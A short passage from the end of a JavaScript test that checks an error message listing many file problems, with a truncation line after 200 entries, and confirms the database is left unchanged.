    expect(res.text).toContain(`Fix these ${N} problems in the file`);
    expect(res.text).toContain(`…and ${N - 200} more.`);
    expect(snapshot(t.db)).toEqual(before);
  });
});
